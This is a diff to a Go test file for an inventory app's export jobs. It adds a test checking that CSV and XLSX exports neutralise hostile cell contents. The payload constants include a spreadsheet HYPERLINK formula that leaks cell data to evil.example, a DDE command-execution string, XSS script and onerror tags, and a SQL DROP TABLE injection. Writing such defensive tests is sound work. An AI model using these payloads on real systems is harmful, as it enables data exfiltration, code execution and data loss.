@@ -1,13 +1,18 @@
 package jobs_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
 	"encoding/csv"
+	"encoding/xml"
 	"io"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
 
 	"ledgerline/jobs"
 	"ledgerline/store"
@@ -93,4 +98,128 @@ func TestExportRunsUnderRequesterRights(t *testing.T) {
 	got, err = exports.Get(ctx, db, admin2, audit.ID)
 	require.NoError(t, err)
 	require.Equal(t, exports.StateFailed, got.State)
+}
+
+// TestExportNeutralisesPayloads: text saved with an XSS payload, a spreadsheet formula and SQL
+// metacharacters comes out of CSV and XLSX exports as inert text: every cell that a spreadsheet would
+// evaluate starts with an apostrophe, no XLSX cell holds a formula, the markup is escaped in the sheet's
+// XML (which stays well-formed) and the text is otherwise unchanged.
+func TestExportNeutralisesPayloads(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+	db := storetest.New(t).DB
+	ten, err := identity.TenantCreate(ctx, db, store.Scope{}, identity.TenantCreateParams{Name: "probe", Slug: "probe-x", TimeZone: "UTC", Currency: "EUR"})
+	require.NoError(t, err)
+	admin := store.Scope{TenantID: ten.ID, ActorID: store.NewID()}
+	_, err = db.X.ExecContext(ctx, `INSERT INTO users (id, email, name, password_hash) VALUES ($1, 'admin@probe-x.example', 'Admin', 'x')`, admin.ActorID)
+	require.NoError(t, err)
+	require.NoError(t, identity.MemberAdd(ctx, db, store.Scope{TenantID: ten.ID}, identity.MemberAddParams{UserID: admin.ActorID, Role: identity.RoleAdmin}))
+
+	const (
+		xss     = `=HYPERLINK("https://evil.example/?"&A1,"<script>alert(1)</script>")`
+		plus    = `+1+cmd|' /C calc'!A0 <img src=x onerror=alert(2)>`
+		at      = `@SUM(1+1)'; DROP TABLE inventory_items;--`
+		minus   = `-2+3 "quoted" </td><b>bold</b>`
+		harmles = `Plain <i>name</i> & 'quotes'; --`
+	)
+	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-1", Name: xss, Category: plus, Unit: "ea", Barcode: "B1"})
+	require.NoError(t, err)
+	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-2", Name: at, Category: minus, Unit: "ea", Barcode: "B2"})
+	require.NoError(t, err)
+	_, err = inventory.ItemCreate(ctx, db, admin, inventory.ItemFields{SKU: "P-3", Name: harmles, Category: "\tTabbed", Unit: "ea", Barcode: "B3"})
+	require.NoError(t, err)
+	want := map[string][2]string{ // SKU -> name, category as a spreadsheet must show them
+		"P-1": {"'" + xss, "'" + plus},
+		"P-2": {"'" + at, "'" + minus},
+		"P-3": {harmles, "Tabbed"}, // the store trims surrounding whitespace; nothing to neutralise then
+	}
+
+	catalog := jobs.ExportCatalog()
+	export := func(f exports.Format) []byte {
+		x, err := exports.Create(ctx, db, admin, exports.CreateParams{Kind: exports.KindInventoryItems, Format: f})
+		require.NoError(t, err)
+		require.NoError(t, exports.Run(ctx, db, catalog, exports.RunArgs{TenantID: ten.ID, ExportID: x.ID}, 1, exports.RunOpts{}))
+		got, err := exports.Get(ctx, db, admin, x.ID)
+		require.NoError(t, err)
+		require.Equal(t, exports.StateDone, got.State, got.Error)
+		_, r, err := exports.Download(ctx, db, admin, x.ID)
+		require.NoError(t, err)
+		body, err := io.ReadAll(r)
+		require.NoError(t, err)
+		return body
+	}
+
+	t.Run("CSV", func(t *testing.T) {
+		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export(exports.FormatCSV), []byte("\ufeff")))).ReadAll()
+		require.NoError(t, err)
+		require.Len(t, recs, 4)
+		for _, rec := range recs[1:] {
+			w, ok := want[rec[0]]
+			require.True(t, ok, rec[0])
+			require.Equal(t, w[0], rec[1], "name of %s", rec[0])
+			require.Equal(t, w[1], rec[2], "category of %s", rec[0])
+			for i, cell := range rec {
+				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
+					t.Errorf("%s column %d would be evaluated: %q", rec[0], i, cell)
+				}
+			}
+		}
+	})
+
+	t.Run("XLSX", func(t *testing.T) {
+		body := export(exports.FormatXLSX)
+		zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
+		require.NoError(t, err)
+		for _, zf := range zr.File {
+			if !strings.HasSuffix(zf.Name, ".xml") {
+				continue
+			}
+			rc, err := zf.Open()
+			require.NoError(t, err)
+			x, err := io.ReadAll(rc)
+			require.NoError(t, rc.Close())
+			require.NoError(t, err)
+			// Well-formed XML, no formula anywhere, no raw markup from the payloads.
+			dec := xml.NewDecoder(bytes.NewReader(x))
+			for {
+				tok, err := dec.Token()
+				if err == io.EOF {
+					break
+				}
+				require.NoError(t, err, zf.Name)
+				if se, ok := tok.(xml.StartElement); ok {
+					require.NotEqual(t, "f", se.Name.Local, "a formula in %s", zf.Name)
+					require.NotContains(t, []string{"script", "img", "b", "i", "td"}, se.Name.Local, "payload markup became an element in %s", zf.Name)
+				}
+			}
+		}
+		f, err := excelize.OpenReader(bytes.NewReader(body))
+		require.NoError(t, err)
+		defer func() { require.NoError(t, f.Close()) }()
+		rows, err := f.GetRows(f.GetSheetName(0))
+		require.NoError(t, err)
+		require.Len(t, rows, 4)
+		for i, row := range rows[1:] {
+			w, ok := want[row[0]]
+			require.True(t, ok, row[0])
+			require.Equal(t, w[0], row[1], "name of %s", row[0])
+			require.Equal(t, w[1], row[2], "category of %s", row[0])
+			for col := 1; col <= len(row); col++ {
+				cell, err := excelize.CoordinatesToCellName(col, i+2)
+				require.NoError(t, err)
+				formula, err := f.GetCellFormula(f.GetSheetName(0), cell)
+				require.NoError(t, err)
+				require.Empty(t, formula, cell)
+			}
+		}
+	})
+}
+
+// TestExportTimeoutCappedByRescue: River rescues a dead worker's job only after the job's timeout, so the
+// export's hour is capped by JOB_RESCUE_AFTER when that is set.
+func TestExportTimeoutCappedByRescue(t *testing.T) {
+	t.Parallel()
+	require.Equal(t, time.Hour, (&jobs.ExportRunWorker{}).Timeout(nil))
+	require.Equal(t, 30*time.Second, (&jobs.ExportRunWorker{MaxDuration: 30 * time.Second}).Timeout(nil))
+	require.Equal(t, time.Hour, (&jobs.ExportRunWorker{MaxDuration: 3 * time.Hour}).Timeout(nil))
 }
